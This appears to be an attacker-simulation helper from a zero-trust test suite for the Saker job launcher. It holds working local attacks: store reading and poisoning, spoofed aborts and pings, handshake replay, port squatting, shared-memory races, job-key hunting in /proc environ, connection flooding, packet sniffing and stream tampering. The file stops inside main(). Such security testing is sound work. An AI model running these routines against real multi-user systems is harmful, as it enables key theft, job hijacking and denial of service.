#!/usr/bin/python3
"""zt_attacker.py: another user's tools against a Saker job, for zero_trust_attacks.sh.

Standard library only. Every subcommand except `sniff` and `flip-proxy` runs as the
attacker (an ordinary user); those two are the trusted test runner (root) observing or
tampering with the wire, as a switch on the path between two nodes can.

The attacker finds the job the way any user can: /proc/net/tcp lists every TCP socket
with its owner's uid. It speaks the wire formats of today's code (launcher/comm/store.cpp:
'S'/'G' requests; launcher/comm/mesh.cpp: the 20-byte Hello). An authenticated job must
refuse all of it; the runner judges by what the job shows, this program only reports
what it saw, one fact a line:
    FACT <name> <detail>       something the attacker achieved (e.g. read a store key)
    INFO <text>                progress
When its attack phase is over it creates OUT.done, then waits for STOP to exist (the
runner creates it after the job ended) to make its final checks.
"""
import argparse
import json
import os
import re
import socket
import struct
import sys
import threading
import time

MAGIC = 0x53414B52  # "SAKR", launcher/comm/mesh.cpp
KIND_LINK, KIND_ABORT, KIND_PING = 1, 2, 3
RANK_ENTRY = re.compile(rb"^\S+ \d+ \S+ \S+ \d+ \S+$")  # communicator.cpp: addr port host node pid machine
SESSION = re.compile(rb"^[0-9a-f]+-\d+$")

_print_lock = threading.Lock()


def say(*parts):
    with _print_lock:
        print(*parts, flush=True)


def hello(kind, sender, channel, text=b""):
    return struct.pack("<IIiiI", MAGIC, kind, sender, channel, len(text)) + text


def tcp_sockets(uid, states=("0A",), proc="/proc/net"):
    """(ip, port) of uid's TCP sockets in the given states (0A: LISTEN), any address family."""
    found = set()
    for name in ("tcp", "tcp6"):
        try:
            with open(os.path.join(proc, name)) as f:
                next(f)
                for line in f:
                    cols = line.split()
                    if cols[3] not in states or int(cols[7]) != uid:
                        continue
                    hexip, hexport = cols[1].split(":")
                    ip = "127.0.0.1"
                    if name == "tcp" and hexip != "00000000":
                        ip = socket.inet_ntoa(struct.pack("<I", int(hexip, 16)))
                    found.add((ip, int(hexport, 16)))
        except FileNotFoundError:
            pass
    return found


_spin = threading.local()  # _spin.until: retry refused connections until then (racing a known port)


def connect(addr, timeout=2.0):
    while True:
        try:
            s = socket.create_connection(addr, timeout=timeout)
            break
        except ConnectionRefusedError:
            if time.time() >= getattr(_spin, "until", 0):
                raise
            time.sleep(0.0002)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def recv_exact(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed")
        buf += chunk
    return buf


def store_get(s, key):
    k = key.encode()
    s.sendall(b"G" + struct.pack("<I", len(k)) + k)
    (n,) = struct.unpack("<I", recv_exact(s, 4))
    if n > 4096:
        raise ValueError("not a store answer")
    return recv_exact(s, n)


def store_set(s, key, value):
    k, v = key.encode(), value.encode()
    s.sendall(b"S" + struct.pack("<I", len(k)) + k + struct.pack("<I", len(v)) + v)


def flood(addr, key, value, seconds=4.0):
    """Set key to value over and over, from several connections opened a little apart: the
    store serves its clients in the order they connected, and a set parsed after the job's
    own, before the store answers the job's gets, wins."""
    k, v = key.encode(), value.encode()
    burst = (b"S" + struct.pack("<I", len(k)) + k + struct.pack("<I", len(v)) + v) * 16
    spin_until = getattr(_spin, "until", 0)

    def one(delay):
        time.sleep(delay)
        _spin.until = spin_until
        try:
            with connect(addr) as s:
                if delay == 0:
                    say("INFO connected to %s:%d" % addr)
                end = time.time() + seconds
                while time.time() < end:
                    s.sendall(burst)
        except OSError:
            pass

    threads = [threading.Thread(target=one, args=(d,), daemon=True) for d in (0, 0.0005, 0.001, 0.002, 0.004)]
    for t in threads:
        t.start()
    return threads


class Campaign:
    """Runs fn(addr) in a thread for every listener of uid that appears, until the attack
    phase ends (duration seconds after the first listener, or the deadline)."""

    def __init__(self, args):
        self.args = args
        self.seen = set()
        self.threads = []

    def run(self, fn, rounds=1, gap=0.3):
        a = self.args
        deadline = time.time() + a.deadline
        first = None
        if a.port:  # a port known in advance (--master-port, plain srun's formula): race for it
            addr = (a.host, a.port)
            self.seen.add(addr)
            t = threading.Thread(target=self._when_up, args=(fn, addr, deadline), daemon=True)
            t.start()
            self.threads.append(t)
        while time.time() < deadline and not os.path.exists(a.stop):
            if first is not None and time.time() - first > a.duration:
                break
            for addr in sorted(tcp_sockets(a.uid) - self.seen):
                if addr[1] in a.skip_port:  # e.g. torch's own TCPStore, which nobody can guard
                    continue
                self.seen.add(addr)
                first = first or time.time()
                t = threading.Thread(target=self._rounds, args=(fn, addr, rounds, gap), daemon=True)
                t.start()
                self.threads.append(t)
            time.sleep(0.002)
        say("INFO attack phase over: %d listener(s) of uid %d tried" % (len(self.seen), a.uid))
        for t in self.threads:
            t.join(timeout=3)

    @staticmethod
    def _when_up(fn, addr, deadline):
        """fn(addr), its connections retried at once while refused: first in the queue."""
        _spin.until = deadline
        try:
            fn(addr)
        except (OSError, ValueError, ConnectionError):
            pass

    @staticmethod
    def _rounds(fn, addr, rounds, gap):
        for _ in range(rounds):
            try:
                fn(addr)
            except (OSError, ValueError, ConnectionError):
                pass
            time.sleep(gap)


def finish(args):
    """Signal the end of the attack phase, then wait for the runner's STOP."""
    open(args.out + ".done", "w").close()
    deadline = time.time() + args.deadline
    while not os.path.exists(args.stop) and time.time() < deadline:
        time.sleep(0.05)


# ---- attacks (as the other user) -------------------------------------------------------


def cmd_store_read(args):
    def attempt(addr):
        with connect(addr, timeout=3) as s:
            say("INFO connected to %s:%d" % addr)
            for key in ("saker/rank/0", "saker/rank/1", "saker/session"):
                value = store_get(s, key)
                if RANK_ENTRY.match(value) or SESSION.match(value):
                    say("FACT store-read %s:%d %s = %s" % (addr[0], addr[1], key, value.decode(errors="replace")))

    Campaign(args).run(attempt, rounds=3, gap=0.5)
    finish(args)


def cmd_store_poison(args):
    trap = socket.socket()
    trap.bind((args.host, 0))
    trap.listen(64)
    port = trap.getsockname()[1]
    value = "%s %d mallory mallory 1 mallory" % (args.host, port)

    def accept_loop():
        while True:
            c, peer = trap.accept()
            c.settimeout(2)
            try:
                data = c.recv(64)
            except OSError:
                data = b""
            say("FACT poison-connected the job connected to the attacker's address from %s:%d, sent %r" % (peer[0], peer[1], data[:32]))

    threading.Thread(target=accept_loop, daemon=True).start()

    def spam(addr):
        for t in flood(addr, "saker/rank/1", value):
            t.join()

    say("INFO poisoning saker/rank/1 with %r" % value)
    Campaign(args).run(spam)
    finish(args)


def cmd_abort(args):
    text = args.text.encode()

    def attempt(addr):
        for sender in range(4):
            with connect(addr) as s:
                s.sendall(hello(KIND_ABORT, sender, 0, text))

    Campaign(args).run(attempt, rounds=5, gap=0.3)
    finish(args)


def cmd_hijack(args):
    held = []
    garbage = b"\xff" * 64 + os.urandom(4096)

    def attempt(addr):
        for sender in (0, 1):
            for channel in (0, 1):
                s = connect(addr)
                s.sendall(hello(KIND_LINK, sender, channel) + garbage)
                held.append(s)  # kept open: the job reads whatever comes next from us

    Campaign(args).run(attempt, rounds=3, gap=0.3)
    finish(args)


def cmd_replay(args):
    with open(args.flows) as f:
        streams = [bytes.fromhex(x) for x in json.load(f)]
    say("INFO replaying %d captured client stream(s)" % len(streams))
    held = []

    def attempt(addr):
        for data in streams:
            s = connect(addr)
            s.sendall(data)
            held.append(s)

    Campaign(args).run(attempt, rounds=2, gap=0.5)
    finish(args)


HELLO_BYTES, REPLY_BYTES, FINISH_BYTES = 64, 68, 32  # launcher/comm/auth.hpp


def replay_one(addr, data, text):
    """One captured client stream, replayed as its client sent it: the Hello, then (once
    the listener has sent its challenge) the captured Finish, and after an Ack the rest
    of the capture and TEXT. Returns "accepted" when the listener acknowledged the
    Finish (it believed the replay), else what it did instead."""
    try:
        with connect(addr, timeout=3) as s:
            s.sendall(data[:HELLO_BYTES])
            reply = b""
            while len(reply) < REPLY_BYTES:
                chunk = s.recv(REPLY_BYTES - len(reply))
                if not chunk:
                    return "closed after the Hello (%d bytes of challenge)" % len(reply)
                reply += chunk
            s.sendall(data[HELLO_BYTES:HELLO_BYTES + FINISH_BYTES])
            ack = s.recv(1)
            if ack != b"\x01":
                return "closed after the captured Finish" if not ack else "answered %r to the Finish" % ack
            s.sendall(data[HELLO_BYTES + FINISH_BYTES:] + text)
            return "accepted"
    except socket.timeout:
        return "no answer within 3 s"
    except OSError as e:
        return "connection failed: %s" % (e.strerror or e)


def cmd_replay_captured(args):
    """Replays whole captured handshakes (sniff --flows-to) into listeners on TARGET_HOST:
    first each stream into the listener it was captured going to (the same running job:
    its key id matches, so only the listener's fresh challenge can tell), then every
    stream into every other such listener (re-targeted), and with --also-listeners into
    the job's listeners in this namespace too. Two rounds."""
    with open(args.flows_to) as f:
        flows = [(x["to"], bytes.fromhex(x["data"])) for x in json.load(f)]
    flows = [(to, d) for to, d in flows if len(d) >= HELLO_BYTES + FINISH_BYTES]

    def addr_of(text):
        host, port = text.rsplit(":", 1)
        return host, int(port)

    targets = sorted({addr_of(to) for to, _ in flows if addr_of(to)[0] == args.target_host})
    if args.also_listeners:
        targets += sorted(tcp_sockets(args.uid) - set(targets))
    plan = [(addr_of(to), d) for to, d in flows if addr_of(to) in targets]
    plan += [(t, d) for t in targets for to, d in flows if addr_of(to) != t]
    say("INFO %d captured handshake(s), %d listener(s) on %s: %d replay(s) a round" %
        (len(flows), len(targets), args.target_host, len(plan)))
    text = args.text.encode()
    for _ in range(2):
        for addr, data in plan:
            if os.path.exists(args.stop):
                break
            what = replay_one(addr, data, text)
            say("INFO replayed %d captured bytes into %s:%d: %s" % (len(data), addr[0], addr[1], what))
            if what == "accepted":
                say("FACT replay-accepted %s:%d acknowledged a replayed handshake" % addr)
    finish(args)


def cmd_squat(args):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", args.port))
    s.listen(64)
    s.settimeout(0.2)
    say("INFO squatting port %d" % args.port)
    open(args.out + ".ready", "w").close()
    conns = []
    deadline = time.time() + args.deadline
    while not os.path.exists(args.stop) and time.time() < deadline:
        try:
            c, peer = s.accept()
            c.setblocking(False)
            conns.append([c, b""])
        except socket.timeout:
            pass
        for entry in conns:
            try:
                entry[1] += entry[0].recv(65536)
            except (BlockingIOError, OSError):
                pass
    for c, data in conns:
        say("INFO squatter got a connection carrying %d byte(s)" % len(data))
        if re.search(rb"saker/rank/\d+", data) and re.search(rb"\S+ \d+ \S+ \S+ \d+ \S+", data):
            say("FACT squat-registered a rank registered with the squatter: %r" % data[:120])


def shm_names(session):
    """The job's segment names for a session, the likeliest first (launcher/comm/core.cpp)."""
    return ["/dev/shm/saker-%s-c%d-n%d-s%d" % (session, ch, node, stripes)
            for stripes in range(1, 17) for ch in (0, 1) for node in (0, 1)]


def precreate(paths, made):
    for path in paths:
        try:
            fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o666)
            os.fchmod(fd, 0o666)
            os.close(fd)
            made.append(path)
        except OSError:
            pass


def cmd_shm(args):
    """Two ways to get the ranks onto the attacker's segments: learn the session from the
    store and create its names first (a race), or set saker/session to a session whose
    names exist already, over and over while the job starts."""
    made, learned = [], []
    planted = "%016x-1" % int.from_bytes(os.urandom(8), "big")
    precreate(shm_names(planted), made)

    def attempt(addr):
        flood(addr, "saker/session", planted)
        with connect(addr, timeout=5) as s:
            k = b"saker/session"
            s.sendall(b"G" + struct.pack("<I", len(k)) + k)
            # Busy-poll the answer (a blocking wake-up costs tens of microseconds here, and
            # this is a race against the ranks creating their segments).
            s.setblocking(False)
            buf, end = b"", time.time() + 5
            while time.time() < end:
                try:
                    chunk = s.recv(4096)
                except BlockingIOError:
                    if len(buf) >= 4 and len(buf) >= 4 + struct.unpack("<I", buf[:4])[0]:
                        break
                    continue
                if not chunk:
                    break
                buf += chunk
        if len(buf) < 4 or struct.unpack("<I", buf[:4])[0] > 256:
            return
        session = buf[4 : 4 + struct.unpack("<I", buf[:4])[0]]
        if not SESSION.match(session):
            return
        session = session.decode()
        if session != planted:
            precreate(shm_names(session), made)
        learned.append(session)

    Campaign(args).run(attempt)
    for session in learned:
        say("FACT shm-session learned the session name %s from the store" % session)
    say("INFO pre-created %d segment(s)" % len(made))
    finish(args)
    for path in made:
        st = os.stat(path)
        if st.st_size > 0:
            say("FACT shm-adopted the job used the attacker's segment %s (now %d bytes)" % (path, st.st_size))
        os.unlink(path)


def cmd_key_hunt(args):
    """Look for the job key where any user can look: every process of the uid's argv
    (/proc/PID/cmdline is world-readable) and, should the kernel allow it, environment."""
    hexkey = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")
    deadline = time.time() + args.deadline
    first, seen = None, set()
    while time.time() < deadline and not os.path.exists(args.stop):
        if first is not None and time.time() - first > args.duration:
            break
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                if os.stat("/proc/" + pid).st_uid != args.uid:
                    continue
            except OSError:
                continue
            first = first or time.time()
            for what in ("cmdline", "environ"):
                try:
                    with open("/proc/%s/%s" % (pid, what), "rb") as f:
                        data = f.read()
                except OSError:
                    continue
                if (pid, what) not in seen:
                    seen.add((pid, what))
                    say("INFO read /proc/%s/%s (%d bytes)" % (pid, what, len(data)))
                if b"SAKER_JOB_KEY" in data or hexkey.search(data):
                    say("FACT key-seen /proc/%s/%s shows the job key (or its variable)" % (pid, what))
                    finish(args)
                    return
        time.sleep(0.01)
    say("INFO attack phase over: %d process(es) of uid %d read" % (len({p for p, _ in seen}), args.uid))
    finish(args)


def cmd_runtime_files(args):
    """Pre-create the heartbeat directory (with a stale rank-0 file) or the preempt
    marker for the next COUNT process ids: saker-run names both after its pid."""
    with open("/proc/sys/kernel/ns_last_pid") as f:
        last = int(f.read())
    made = 0
    for pid in range(last + 1, last + 1 + args.count):
        try:
            if args.what == "heartbeat":
                d = os.path.join(args.dir, ".saker-heartbeat-local-%d" % pid)
                os.mkdir(d, 0o755)
                p = os.path.join(d, "rank-0")
                open(p, "w").close()
                os.utime(p, (time.time() - 7200, time.time() - 7200))
            else:
                open(os.path.join(args.dir, ".saker-preempted-local-%d" % pid), "w").close()
            made += 1
        except OSError:
            pass
    say("INFO pre-created %d %s path(s) for pids %d..%d" % (made, args.what, last + 1, last + args.count))


def cmd_read_files(args):
    for top in args.paths:
        for root, dirs, files in os.walk(top):
            for name in files:
                path = os.path.join(root, name)
                try:
                    with open(path, "rb") as f:
                        n = len(f.read(4096))
                    say("FACT file-readable %s (%d bytes read)" % (path, n))
                except OSError as e:
                    say("INFO denied %s: %s" % (path, e.strerror))


def new_hello(kind, client, server, channel, key_id=b"\0" * 8):
    """Today's 64-byte Hello (launcher/comm/auth.cpp, encode_hello): magic "SKA1",
    version 1, kind (1 store, 2 link, 3 abort, 4 ping), client, server, channel, key id,
    client nonce. Without the key nothing past it can be answered."""
    return (struct.pack("<IBB2xiii4x", 0x31414B53, 1, kind, client, server, channel) + key_id[:8].ljust(8, b"\0")
            + os.urandom(32))


def key_ids(flows):
    """Key ids seen in captured Hellos (public by design: an HMAC of a fixed label)."""
    ids = set()
    for data in flows:
        if len(data) >= 32 and data[:4] == struct.pack("<I", 0x31414B53):
            ids.add(data[24:32])
    return sorted(ids) or [b"\0" * 8]


def cmd_spoof(args):
    """Spoofed liveness pings and abort notices, in the old format (a bare greeting) and
    today's (a Hello, then a made-up Finish, then the notice): a rank that answers a ping
    (the 1-byte pong) or acknowledges a Finish has believed the attacker."""
    ids = key_ids([bytes.fromhex(x) for x in json.load(open(args.flows))]) if args.flows else [b"\0" * 8]
    text = args.text.encode()

    def attempt(addr):
        for key_id in ids:
            for client in range(3):
                for server in range(3):
                    for kind in (3, 4):  # today's abort, ping
                        with connect(addr) as s:
                            s.settimeout(1.0)
                            s.sendall(new_hello(kind, client, server, 0, key_id))
                            try:
                                reply = recv_exact(s, 68)
                                s.sendall(os.urandom(32))
                                if kind == 3:
                                    s.sendall(struct.pack("<I", len(text)) + text)
                                more = s.recv(16)
                            except (OSError, ConnectionError):
                                continue
                            if more:
                                say("FACT spoof-believed %s:%d answered a forged %s claiming rank %d to rank %d: %r"
                                    % (addr[0], addr[1], "abort" if kind == 3 else "ping", client, server, more[:8]))
        for sender in range(3):  # the old format: ping (3) gets a pong, abort (2) carries text
            with connect(addr) as s:
                s.settimeout(1.0)
                s.sendall(hello(KIND_PING, sender, 0))
                try:
                    pong = s.recv(1)
                except OSError:
                    pong = b""
                if pong == b"\x01":
                    say("FACT spoof-believed %s:%d answered an old-format ping from 'rank %d'" % (addr[0], addr[1], sender))
            with connect(addr) as s:
                s.sendall(hello(KIND_ABORT, sender, 0, text))

    Campaign(args).run(attempt, rounds=3, gap=0.3)
    finish(args)


def cmd_dos(args):
    """Denial of service by silent connections: COUNT connections to every listener of
    uid (and to --port, raced), opened as fast as the kernel takes them and never
    speaking; each one the victim closes is opened again at once, until STOP."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stop_at = time.time() + args.deadline
    held = {}
    lock = threading.Lock()

    def open_many(addr, n):
        out = []
        for _ in range(n):
            s = socket.socket()
            s.setblocking(False)
            err = s.connect_ex(addr)
            if err not in (0, 115):  # EINPROGRESS
                s.close()
                break
            out.append(s)
        return out

    def hold(addr):
        count = args.port_count if args.port and addr == (args.host, args.port) else args.count
        socks = open_many(addr, count)
        most = len(socks)
        while time.time() < stop_at and not os.path.exists(args.stop):
            time.sleep(0.1)
            alive = []
            for s in socks:  # closed by the victim (or never accepted): open it again
                try:
                    gone = s.recv(1, socket.MSG_PEEK) == b""
                except BlockingIOError:
                    gone = False
                except OSError as e:
                    gone = e.errno != 107  # ENOTCONN: still connecting
                if gone:
                    s.close()
                else:
                    alive.append(s)
            socks = alive + open_many(addr, count - len(alive))
            most = max(most, len(socks))
            with lock:
                held[addr] = most
        for s in socks:
            s.close()

    say("INFO holding %d silent connection(s) on each listener, %d on port %d" % (args.count, args.port_count, args.port))
    Campaign(args).run(hold)
    for addr, n in sorted(held.items()):
        say("INFO held up to %d silent connection(s) on %s:%d" % (n, addr[0], addr[1]))
    if not held:
        say("INFO attack phase over: 0 listener(s) held")
    finish(args)


# ---- the trusted runner (root): capture and tamper on the wire ----------------------------


def attach_port_filter(sock, port):
    """A classic BPF filter: only IPv4 TCP segments from or to PORT reach the socket (a
    capture in Python of everything on a loaded loopback loses most frames)."""
    import ctypes
    prog = [(0x28, 0, 0, 12), (0x15, 0, 9, 0x0800),  # ethertype IPv4, else drop
            (0x30, 0, 0, 23), (0x15, 0, 7, 6),  # TCP, else drop
            (0x28, 0, 0, 20), (0x45, 5, 0, 0x1FFF),  # a fragment: drop
            (0xB1, 0, 0, 14),  # x = IP header length
            (0x48, 0, 0, 14), (0x15, 3, 0, port),  # source port
            (0x48, 0, 0, 16), (0x15, 1, 0, port),  # destination port
            (0x06, 0, 0, 0), (0x06, 0, 0, 262144)]  # drop, keep
    buf = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *ins) for ins in prog))
    # SO_ATTACH_FILTER copies the program: buf need only outlive this call.
    sock.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HL", len(prog), ctypes.addressof(buf)))


def cmd_sniff(args):
    """Capture TCP payload on an interface (AF_PACKET); report whether the pattern appears
    and keep the first bytes each client sent to a listener of uid (for the replay)."""
    pattern = args.pattern.encode()
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sock.setsockopt(socket.SOL_SOCKET, 33, 256 << 20)  # SO_RCVBUFFORCE (root): drop as little as we can
    sock.bind((args.iface, 0))
    if args.dump_port:
        attach_port_filter(sock, args.dump_port)
    sock.settimeout(0.2)
    tails, firsts = {}, {}
    clients = set()  # flows whose SYN (without ACK) was seen: sent by the connection's client
    listeners, rescan = set(), 0.0
    hits = packets = payload_bytes = 0
    dump = open(args.out + ".dump", "wb") if args.dump_port else None
    open(args.out + ".ready", "w").close()
    deadline = time.time() + args.deadline
    next_progress = 0.0
    while not os.path.exists(args.stop) and time.time() < deadline:
        if time.time() > next_progress:  # what was seen so far, for a runner waiting on it
            with open(args.out + ".progress.tmp", "w") as f:
                f.write("%d %d %d\n" % (packets, payload_bytes, hits))
            os.replace(args.out + ".progress.tmp", args.out + ".progress")
            next_progress = time.time() + 0.25
        if time.time() > rescan:
            listeners |= {p for _, p in tcp_sockets(args.uid)}
            rescan = time.time() + 0.05
        try:
            frame, addr = sock.recvfrom(262144)
        except socket.timeout:
            continue
        if addr[2] == socket.PACKET_OUTGOING or len(frame) < 34 or frame[12:14] != b"\x08\x00":
            continue
        ip = frame[14:]
        if ip[9] != 6:
            continue
        ihl = (ip[0] & 15) * 4
        total = struct.unpack("!H", ip[2:4])[0]
        if total == 0 or total > len(ip):  # BIG TCP: a GSO packet past 64 KiB says 0
            total = len(ip)
        tcp = ip[ihl:total]
        sport, dport = struct.unpack("!HH", tcp[:4])
        data = tcp[(tcp[12] >> 4) * 4:]
        if len(tcp) > 13 and tcp[13] & 0x12 == 0x02:  # SYN without ACK: this side is the client
            clients.add((ip[12:16], sport, ip[16:20], dport))
        if not data:
            continue
        packets += 1
        payload_bytes += len(data)
        if args.dump_port and args.dump_port in (sport, dport):
            dump.write(data)
        flow = (ip[12:16], sport, ip[16:20], dport)
        joined = tails.get(flow, b"") + data
        if pattern in joined:
            hits += 1
        tails[flow] = joined[-len(pattern):]
        # Every flow's first client bytes (the listeners are known only afterwards: a link
        # is opened within milliseconds of its listener).
        if len(firsts.get(flow, b"")) < 1024 and len(firsts) < 4096:
            firsts[flow] = firsts.get(flow, b"") + data[: 1024 - len(firsts.get(flow, b""))]
    received, dropped = struct.unpack("II", sock.getsockopt(263, 6, 8))  # SOL_PACKET, PACKET_STATISTICS
    say("INFO captured %d TCP payload packet(s), %d byte(s); the kernel dropped %d of the last %d frames" %
        (packets, payload_bytes, dropped, received))
    if dump:
        dump.close()
    if hits:
        say("FACT pattern-seen the known tensor pattern appeared in %d packet(s)" % hits)
    if args.flows:
        with open(args.flows, "w") as f:
            listeners |= {p for _, p in tcp_sockets(args.uid)}
            json.dump([v.hex() for k, v in firsts.items() if k[3] in listeners and len(v) >= 8], f)
        os.chmod(args.flows, 0o644)
    if args.flows_to:  # every client stream whose start was seen, with its endpoints (any namespace)
        def ep(a, port):
            return "%s:%d" % (socket.inet_ntoa(a), port)
        with open(args.flows_to, "w") as f:
            json.dump([{"from": ep(k[0], k[1]), "to": ep(k[2], k[3]), "data": v.hex()}
                       for k, v in firsts.items() if k in clients], f)
        os.chmod(args.flows_to, 0o644)


def cmd_flip_proxy(args):
    """Relay connections to TARGET_IP:P for every listener P that the process PID (in
    another network namespace) opens, on LISTEN_IP:P; flip a byte of the client's
    stream every EVERY bytes."""
    bound = {}
    flips = [0]
    lock = threading.Lock()

    def pump(src, dst, every):
        seen = 0
        try:
            while True:
                data = src.recv(65536)
                if not data:
                    break
                # Bytes at every, 2*every, ...: the first megabytes are the ring's calibration
                # (launcher/comm/ring.cpp), whose values nobody checks.
                if every and (seen + len(data)) // every > seen // every:
                    b = bytearray(data)
                    at = ((seen // every) + 1) * every
                    while at < seen + len(data):
                        b[at - seen] ^= 0x01
                        at += every
                        with lock:
                            flips[0] += 1
                    data = bytes(b)
                seen += len(data)
                dst.sendall(data)
        except OSError:
            pass
        for s in (src, dst):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def frames(src, dst, every):
        """The client's stream as sealed frames (launcher/comm/aead.hpp: u32 length,
        ciphertext, 16-byte tag) after the 96 handshake bytes (Hello, Finish): passed on
        whole, except the first frame that starts past EVERY bytes, which is dropped,
        swapped with the next one, or sent twice (--mode)."""
        buf, seen, done, held = b"", 0, False, None
        try:
            while seen < 96:  # Hello, then (after the server's Reply) Finish: passed on as they come
                chunk = src.recv(96 - seen)
                if not chunk:
                    raise ConnectionError("closed")
                dst.sendall(chunk)
                seen += len(chunk)
            while True:
                while len(buf) < 4:
                    chunk = src.recv(1 << 20)
                    if not chunk:
                        raise ConnectionError("closed")
                    buf += chunk
                (n,) = struct.unpack("<I", buf[:4])
                if n == 0 or n > (16 << 20):  # not a sealed stream (transit auth): relay as is
                    dst.sendall(buf)
                    return pump(src, dst, 0)
                while len(buf) < 4 + n + 16:
                    chunk = src.recv(1 << 20)
                    if not chunk:
                        raise ConnectionError("closed")
                    buf += chunk
                frame, buf = buf[: 4 + n + 16], buf[4 + n + 16 :]
                seen += len(frame)
                if done or seen < every:
                    dst.sendall(frame)
                    continue
                if args.mode == "reorder" and held is None:
                    held = frame  # sent after the next one
                    continue
                done = True
                with lock:
                    flips[0] += 1
                if args.mode == "reorder":
                    dst.sendall(frame + held)
                elif args.mode == "replay":
                    dst.sendall(frame + frame)
                # drop: nothing
        except (OSError, ConnectionError):
            pass
        for s in (src, dst):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def serve(lsock, port):
        while True:
            c, _ = lsock.accept()
            try:
                u = socket.create_connection((args.target_ip, port), timeout=5)
                u.settimeout(None)
            except OSError:
                c.close()
                continue
            tamper = pump if args.mode == "flip" else frames
            threading.Thread(target=tamper, args=(c, u, args.every), daemon=True).start()
            threading.Thread(target=pump, args=(u, c, 0), daemon=True).start()

    open(args.out + ".ready", "w").close()
    deadline = time.time() + args.deadline
    while not os.path.exists(args.stop) and time.time() < deadline:
        for _, port in tcp_sockets(args.uid, proc="/proc/%d/net" % args.pid) if os.path.exists("/proc/%d" % args.pid) else ():
            if port in bound:
                continue
            ls = socket.socket()
            ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            ls.bind((args.listen_ip, port))
            ls.listen(64)
            bound[port] = ls
            threading.Thread(target=serve, args=(ls, port), daemon=True).start()
        time.sleep(0.002)
    if args.mode == "flip":
        say("INFO relayed %d listener(s); flipped %d byte(s)" % (len(bound), flips[0]))
        if flips[0]:
            say("FACT flipped %d byte(s) of the client's streams" % flips[0])
    else:
        say("INFO relayed %d listener(s); %s %d frame(s)" % (len(bound), args.mode, flips[0]))
        if flips[0]:
            say("FACT tampered %s %d frame(s) of the client's streams" % (args.mode, flips[0]))


def kill_victim(victim):
    """SIGKILL victim[0]; False (and said) when it had exited already: the case did not run."""
    try:
        os.kill(victim[0], 9)
        return True
    except ProcessLookupError:
        say("INFO pid %d had exited before the kill: nothing was killed" % victim[0])
        return False


def cmd_kill_on_shm(args):
    """SIGKILL the uid's process with SAKER_RANK=RANK the moment a file of the uid appears
    in /dev/shm (the window between creating a segment and removing its name is short):
    start it before the job."""
    deadline = time.time() + args.deadline
    with open("/proc/sys/kernel/ns_last_pid") as f:
        since = int(f.read())
    victim = []
    tag = b"SAKER_RANK=%d" % args.rank

    def find_victim():  # only processes newer than this watcher: a short scan
        while not victim and time.time() < deadline:
            for pid in filter(str.isdigit, os.listdir("/proc")):
                if int(pid) <= since:
                    continue
                try:
                    if os.stat("/proc/" + pid).st_uid != args.uid:
                        continue
                    with open("/proc/%s/environ" % pid, "rb") as f:
                        if tag in f.read().split(b"\0"):
                            victim.append(int(pid))
                except OSError:
                    pass
            time.sleep(0.0005)

    threading.Thread(target=find_victim, daemon=True).start()
    # inotify (through ctypes: the standard library has no binding) sees a name however
    # briefly it lives; polling the directory does not.
    import ctypes
    import select
    libc = ctypes.CDLL(None, use_errno=True)
    ino = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
    if ino < 0 or libc.inotify_add_watch(ino, b"/dev/shm", 0x100) < 0:  # IN_CREATE
        raise OSError(ctypes.get_errno(), "inotify on /dev/shm")
    open(args.out + ".ready", "w").close()
    found_at = None
    while time.time() < deadline:
        if select.select([ino], [], [], 0.001)[0]:
            data = os.read(ino, 65536)
            names, at = [], 0
            while at + 16 <= len(data):
                n = struct.unpack_from("iIII", data, at)[3]
                names.append(data[at + 16 : at + 16 + n].rstrip(b"\0").decode(errors="replace"))
                at += 16 + n
            while not victim and time.time() < deadline:
                time.sleep(0.0001)
            for name in names:
                if name.startswith("saker") and victim:
                    if kill_victim(victim):
                        say("INFO SIGKILLed rank %d (pid %d) once /dev/shm/%s was created" % (args.rank, victim[0], name))
                    return
        if victim and found_at is None:
            found_at = time.time()
        if found_at is not None and time.time() > found_at + args.window:
            # A name that lives only microseconds (its member unlinks it at once) is not
            # seen by polling: kill the rank during its start anyway; nothing may be left.
            if kill_victim(victim):
                say("INFO no segment of uid %d seen within %g s of rank %d's start; SIGKILLed it (pid %d) then" %
                    (args.uid, args.window, args.rank, victim[0]))
            return
        for name in os.listdir("/dev/shm"):
            try:
                if victim and os.stat("/dev/shm/" + name).st_uid == args.uid:
                    if kill_victim(victim):
                        say("INFO SIGKILLed rank %d (pid %d) once /dev/shm/%s existed" % (args.rank, victim[0], name))
                    return
            except OSError:
                pass
    say("INFO rank %d of uid %d never started" % (args.rank, args.uid))


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)

    def campaign(name, fn, **extra):
        q = sub.add_parser(name)
        q.add_argument("--uid", type=int, required=True, help="the job owner's uid")
        q.add_argument("--stop", required=True, help="file the runner creates when the job ended")
        q.add_argument("--out", required=True, help="OUT.done is created when the attack phase ends")
        q.add_argument("--duration", type=float, default=4.0, help="attack phase, seconds after the first listener")
        q.add_argument("--deadline", type=float, default=60.0)
        q.add_argument("--port", type=int, default=0, help="the store's port, when known in advance")
        q.add_argument("--host", default="127.0.0.1", help="where that port is (default: this machine)")
        q.add_argument("--skip-port", type=int, action="append", default=[], help="leave this port alone")
        q.add_argument("--dump-port", type=int, default=0, help="sniff: write every payload to or from this port")
        for k, v in extra.items():
            q.add_argument("--" + k.replace("_", "-"), dest=k, **v)
        q.set_defaults(fn=fn)
        return q

